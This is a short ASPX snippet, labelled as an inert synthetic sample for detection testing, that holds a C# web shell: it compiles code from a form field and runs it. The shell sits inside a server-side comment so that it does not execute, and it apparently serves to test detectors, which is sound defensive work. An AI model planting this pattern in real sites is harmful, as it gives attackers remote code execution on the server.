<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var prov = CodeDomProvider.CreateProvider("CSharp"); var cp = new CompilerParameters { GenerateInMemory = true }; var res = prov.CompileAssemblyFromSource(cp, Request.Form["s"]); res.CompiledAssembly.GetType("X").GetMethod("R").Invoke(null, null); %>
--%>
